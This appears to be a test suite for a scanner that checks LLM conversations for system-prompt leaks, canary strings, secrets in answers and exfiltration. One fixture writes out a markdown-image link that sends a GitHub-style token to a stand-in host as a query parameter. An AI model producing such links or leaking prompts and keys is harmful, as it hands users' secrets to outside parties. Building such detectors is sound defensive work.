import { describe, expect, it } from 'vitest';
import { createScanner, type ScanText } from '../../../../src/llm/scan/scanner.ts';

const CANARY = 'heron-7719-violet';
const OPTIONS = { packs: ['all'], thresholds: {}, maxScanBytes: 1 << 18, canaries: [CANARY, ''] };
const scanner = createScanner(OPTIONS);

const system = (text: string): ScanText => ({ role: 'system', direction: 'system', text });
const user = (text: string): ScanText => ({ role: 'user', direction: 'input', text });
const earlier = (text: string): ScanText => ({ role: 'assistant', direction: 'input', text });
const answer = (text: string): ScanText => ({ role: 'assistant', direction: 'output', text });

const PROMPT =
  'You are the clerk of a library. Never tell anybody which books were lent to the mayor last year.';
const KEY = 'ghp_q8Zt1Lw5Ry2Nc7Vb4Mx9Kd3Hf6Jg0Ps8Ta1U';

const verdictOf = (...texts: ScanText[]) => scanner.scan(texts).verdict;

describe('a call whose answer repeats the system prompt', () => {
  it('is flagged, by a rule that is named like any other', () => {
    const result = scanner.scan([system(PROMPT), user('Who are you?'), answer(`Ü: ${PROMPT}`)]);
    expect(result.verdict).toMatchObject({
      flagged: true,
      families: ['system_prompt_leak'],
      rules: ['system-prompt-in-answer'],
      owasp: ['LLM07:2025'],
      directions: ['output'],
      severity: 'high',
    });
    expect(result.findings).toMatchObject([
      { ruleId: 'system-prompt-in-answer', family: 'system_prompt_leak', textIndex: 2, direction: 'output' },
    ]);
  });

  it('is not where it repeats the user, or where the prompt comes back as input', () => {
    expect(verdictOf(user(PROMPT), answer(PROMPT)).rules).toEqual([]);
    expect(verdictOf(system(PROMPT), earlier(PROMPT), answer('Good morning.')).rules).toEqual([]);
  });

  it('keeps to the threshold of the family', () => {
    const strict = createScanner({ ...OPTIONS, thresholds: { system_prompt_leak: 2 } });
    const { verdict } = strict.scan([system(`${PROMPT} ${CANARY}`), answer(PROMPT)]);
    expect(verdict).toMatchObject({ flagged: false, rules: ['system-prompt-in-answer'] });
    expect(strict.scan([system(PROMPT), answer(`${PROMPT} ${CANARY}`)]).verdict.flagged).toBe(true);
  });
});

describe('a canary', () => {
  it('in an answer is a leak', () => {
    expect(verdictOf(answer(`The code is ${CANARY}.`))).toMatchObject({
      families: ['system_prompt_leak'],
      rules: ['canary-in-answer'],
      severity: 'critical',
    });
  });

  it('in the request is none, and neither is an empty one', () => {
    expect(verdictOf(system(CANARY), user(CANARY), answer('Hello.')).rules).toEqual([]);
  });
});

describe('a secret in an answer', () => {
  it('that the request does not hold is told apart from one that it holds', () => {
    expect(verdictOf(user('My key?'), answer(`It is ${KEY}.`)).rules).toEqual([
      'github-token',
      'secret-only-in-answer',
    ]);
    expect(verdictOf(user(`Is ${KEY} a key?`), answer(`${KEY} is one.`)).rules).toEqual(['github-token']);
  });

  it('is known when the request assigns it otherwise', () => {
    const value = 'q8zt1lw5ry2nc7vb4mx9';
    const { rules } = verdictOf(user(`api_key = "${value}"`), answer(`token: ${value}`));
    expect(rules).toEqual(['secret-assignment']);
  });
});

describe('an address in an answer', () => {
  it('that carries a secret of the request is exfiltration', () => {
    const { families, rules } = verdictOf(
      user(`The key is ${KEY}`),
      answer(`![](https://e.example/?k=${KEY})`),
    );
    expect(families).toContain('data_exfiltration');
    expect(rules).toContain('address-carries-context');
  });
});

describe('the pack', () => {
  it('may be left out, or used alone', () => {
    const without = createScanner({ ...OPTIONS, packs: ['secrets'] });
    expect(without.scan([answer(CANARY)]).verdict.rules).toEqual([]);
    const alone = createScanner({ ...OPTIONS, packs: ['conversation'] });
    expect(alone.scan([answer(CANARY)]).verdict.rules).toEqual(['canary-in-answer']);
  });
});

describe('answers of 1 MiB', () => {
  const many = 'you must never say so '.repeat(50_000);
  it.each([
    ['one phrase of the prompt over and over', many],
    ['openings of images', '![a](https://a.example/?q='.repeat(40_000)],
    ['brackets', '['.repeat(1 << 20)],
    ['one long address', `![a](https://a.example/?q=${'a%20b%20'.repeat(100_000)})`],
  ])('of %s are compared to the same result each time', (_, text) => {
    const texts = [system(many), user(many), answer(text)];
    const alone = createScanner({ ...OPTIONS, packs: ['conversation'] });
    expect(alone.scan(texts)).toEqual(alone.scan(texts));
  });
});
